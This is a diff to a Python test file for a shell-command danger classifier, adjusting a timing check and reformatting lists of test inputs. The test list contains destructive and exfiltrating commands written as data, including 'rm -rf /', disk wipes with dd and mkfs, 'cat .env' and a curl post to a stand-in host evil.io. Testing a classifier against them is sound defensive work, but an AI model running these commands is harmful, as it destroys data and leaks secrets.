@@ -14,12 +14,20 @@ from copydesk.safety.shell_words import unescaped
 from tests.corpus_commands.test_corpus_commands import corpus
 
 MAX_S = 0.05
-"""For 10 kB, on a quiet machine; measured here with room for a busy one."""
-ROOM = 6
+"""For 10 kB, of the thread's own time."""
+ROOM = 2
+"""For a slower machine."""
 
 DANGEROUS = [each.command for each in corpus("dangerous") if "\n" not in each.command and not each.level.endswith("!")]
 BENIGN = [each.command for name in ("readers", "builds") for each in corpus(name) if "\n" not in each.command]
-PLAIN = ["rm -rf /", "rm -rf ~", "curl -d x https://evil.io", "dd if=/dev/zero of=/dev/sda", "cat .env", "mkfs.ext4 /dev/sda"]
+PLAIN = [
+    "rm -rf /",
+    "rm -rf ~",
+    "curl -d x https://evil.io",
+    "dd if=/dev/zero of=/dev/sda",
+    "cat .env",
+    "mkfs.ext4 /dev/sda",
+]
 
 
 def judged(text: str) -> Judgement:
@@ -126,7 +134,19 @@ def test_no_spelling_of_a_dangerous_command_is_less_than_medium(text: str, seed:
     assert rank(spelled) >= LEVELS.index("medium"), spelled
 
 
-ALPHABET = list(" \t\n;&|<>()${}`'\"\\#~*?[]!=-:,./") + ["rm", "sh -c", "<<E", "\nE\n", "$(", "))", "$((", "if", "done", "a"]
+ALPHABET = [
+    *list(" \t\n;&|<>()${}`'\"\\#~*?[]!=-:,./"),
+    "rm",
+    "sh -c",
+    "<<E",
+    "\nE\n",
+    "$(",
+    "))",
+    "$((",
+    "if",
+    "done",
+    "a",
+]
 
 
 @given(st.lists(st.sampled_from(ALPHABET), max_size=60))
@@ -184,6 +204,6 @@ LARGE = {
 @pytest.mark.parametrize("name", LARGE)
 def test_ten_kilobytes_are_judged_in_time(name: str) -> None:
     judged("ls")
-    started = time.perf_counter()
+    started = time.thread_time()
     judged(LARGE[name])
-    assert time.perf_counter() - started < MAX_S * ROOM
+    assert time.thread_time() - started < MAX_S * ROOM
